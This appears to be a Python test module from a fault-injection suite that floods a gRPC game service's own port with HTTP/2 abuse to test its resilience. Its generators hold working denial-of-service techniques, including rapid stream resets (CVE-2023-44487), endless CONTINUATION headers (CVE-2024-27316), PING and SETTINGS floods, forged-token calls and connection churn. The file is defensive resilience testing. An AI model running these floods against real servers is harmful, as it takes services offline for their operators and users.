"""Floods of the gRPC port: frames without a pause, over one connection after the other."""

from __future__ import annotations

import time
from collections.abc import Callable, Iterator
from functools import partial
from itertools import count, islice
from typing import Final
from uuid import uuid4

from service.pb import table_service_pb2 as pb
from tests.faults.hostile import http2
from tests.faults.hostile.target import Target, Thrift, begun, connected

__all__ = ["CHURNS", "FLOODS", "flood"]

AT_ONCE: Final = 50
"""Frames, or calls, of one write."""

STREAMS: Final = range(1, 100_000, 2)
GET: Final = "/kartejo.v1.TableService/GetTable"
SUBMIT: Final = "/kartejo.v1.TableService/SubmitAction"
WATCH: Final = "/kartejo.v1.TableService/WatchTable"
CHECK: Final = "/grpc.health.v1.Health/Check"


def calls(target: Target) -> Iterator[bytes]:
    """Of one caller, faster than he may."""
    message = pb.GetTableRequest(table_id="no such table").SerializeToString()
    for stream in STREAMS:
        yield http2.call(stream, GET, target.tokens[0], message)


def forged(target: Target) -> Iterator[bytes]:
    """Of somebody whose token must be looked at to be refused: a real one, one letter changed."""
    token = target.tokens[0]
    wrong = token[:-10] + ("A" if token[-10] != "A" else "B") + token[-9:]
    message = pb.GetTableRequest(table_id="no such table").SerializeToString()
    for stream in STREAMS:
        yield http2.call(stream, GET, wrong, message)


def nobody(_: Target) -> Iterator[bytes]:
    """Without any token."""
    for stream in STREAMS:
        yield http2.call(stream, GET, "", b"")


def checks(_: Target) -> Iterator[bytes]:
    """Health checks, which everybody may ask for."""
    for stream in STREAMS:
        yield http2.call(stream, CHECK, "", b"")


def action(target: Target, number: int) -> bytes:
    """Something that the table refuses: chips for a seat that is somebody else's."""
    return pb.SubmitActionRequest(
        request_id=uuid4().hex,
        table_id=target.table(number)[0],
        seat=0,
        action={"common": {"add_chips": {"amount": 1}}},
    ).SerializeToString()


def actions(target: Target) -> Iterator[bytes]:
    """Of one caller, at one table where others play."""
    for stream in STREAMS:
        yield http2.call(stream, SUBMIT, target.tokens[0], action(target, 0))


def crowd(target: Target) -> Iterator[bytes]:
    """Of many callers, at one table where others play: none of them too fast for himself."""
    tokens = target.tokens
    for number, stream in enumerate(STREAMS):
        yield http2.call(stream, SUBMIT, tokens[number % len(tokens)], action(target, 0))


def pings(_: Target) -> Iterator[bytes]:
    """Every one of which is to be answered."""
    while True:
        yield http2.frame(http2.PING, 0, 0, bytes(8))


def settings(_: Target) -> Iterator[bytes]:
    """Every one of which is to be acknowledged."""
    while True:
        yield http2.frame(http2.SETTINGS, 0, 0, b"\0\x04\0\0\xff\xff")


def resets(target: Target) -> Iterator[bytes]:
    """Calls that are taken back at once (CVE-2023-44487)."""
    for stream in STREAMS:
        begin = http2.headers(stream, SUBMIT, target.tokens[0])
        yield begin + http2.frame(http2.RESET, 0, stream, http2.CANCEL)


def metadata(target: Target) -> Iterator[bytes]:
    """Headers that are just small enough, with calls in between whose headers are too large."""
    fit, large = {"x-a": "x" * 14_000}, {"x-a": "x" * 7_000, "x-b": "x" * 15_000}
    for number, stream in enumerate(STREAMS):
        token = target.tokens[0]
        if number % 2:
            yield http2.headers(stream, GET, token, fit) + http2.body(stream, b"")
            continue
        block = http2.block(GET, token, large)
        yield http2.frame(http2.HEADERS, 0, stream, block[:16_000])
        yield http2.frame(http2.CONTINUATION, http2.END_HEADERS, stream, block[16_000:])
        yield http2.body(stream, b"")


def continuations(target: Target) -> Iterator[bytes]:
    """Headers that never end (CVE-2024-27316)."""
    yield http2.frame(http2.HEADERS, 0, 1, http2.block(GET, target.tokens[0]))
    more = b"\0\x03x-a\x7f\xe9\x06" + b"x" * 1000
    while True:
        yield http2.frame(http2.CONTINUATION, 0, 1, more)


def empty(target: Target) -> Iterator[bytes]:
    """Data that holds nothing, without an end."""
    yield http2.headers(1, GET, target.tokens[0])
    while True:
        yield http2.frame(http2.DATA, 0, 1)


def watches(target: Target) -> Iterator[bytes]:
    """Streams of many callers, 1,600 a second, that are opened and taken back a moment later."""
    tokens, last = target.tokens, 0.0
    for number, stream in enumerate(STREAMS):
        table, version = target.table(number)
        request = pb.WatchTableRequest(table_id=table, after_version=version)
        token = tokens[number % len(tokens)]
        opened = http2.call(stream, WATCH, token, request.SerializeToString())
        old = stream - 2 * AT_ONCE
        ended = http2.frame(http2.RESET, 0, old, http2.CANCEL) if old > 0 else b""
        yield opened + ended
        if not number % AT_ONCE:
            time.sleep(max(0.0, last + AT_ONCE / WATCHES_A_SECOND - time.monotonic()))
            last = time.monotonic()


WATCHES_A_SECOND: Final = 1_600

FLOODS: Final[dict[str, Callable[[Target], Iterator[bytes]]]] = {
    "actions": actions,
    "calls": calls,
    "checks": checks,
    "continuations": continuations,
    "crowd": crowd,
    "empty": empty,
    "forged": forged,
    "metadata": metadata,
    "nobody": nobody,
    "pings": pings,
    "resets": resets,
    "settings": settings,
    "watches": watches,
}


def flood(kind: str, target: Target) -> None:
    """Send for ever, over a new connection whenever the last one was closed."""
    thrift, told = Thrift(), False
    while True:
        try:
            with http2.spoken(target.grpc) as line:
                frames = FLOODS[kind](target)
                while batch := b"".join(islice(frames, AT_ONCE)):
                    line.sendall(batch)
                    http2.swallow(line)
                    thrift.rest()
                    if not told:
                        begun()
                        told = True
        except ConnectionError:
            continue


def churn(target: Target, first: bytes = b"", *, web: bool = False) -> None:
    """Connect, say something, wait for half of the answers, and leave: hundreds a second."""
    began = time.monotonic()
    for number in count():
        time.sleep(max(0.0, began + number / ARRIVALS_A_SECOND - time.monotonic()))
        with connected(target.web if web else target.grpc) as line:
            line.sendall(first)
            if number % 2 and first:
                line.recv(1)
        if number == AT_ONCE:
            begun()


ARRIVALS_A_SECOND: Final = 300
HELLO: Final = http2.PREFACE + http2.frame(http2.SETTINGS, 0, 0)
CHURNS: Final[dict[str, Callable[[Target], None]]] = {
    "come_and_go": churn,
    "hello_and_go": partial(churn, first=HELLO),
    "check_and_go": partial(churn, first=HELLO + http2.call(1, CHECK, "", b"")),
    "page_and_go": partial(churn, first=b"GET / HTTP/1.1\r\nHost: localhost\r\n\r\n", web=True),
}
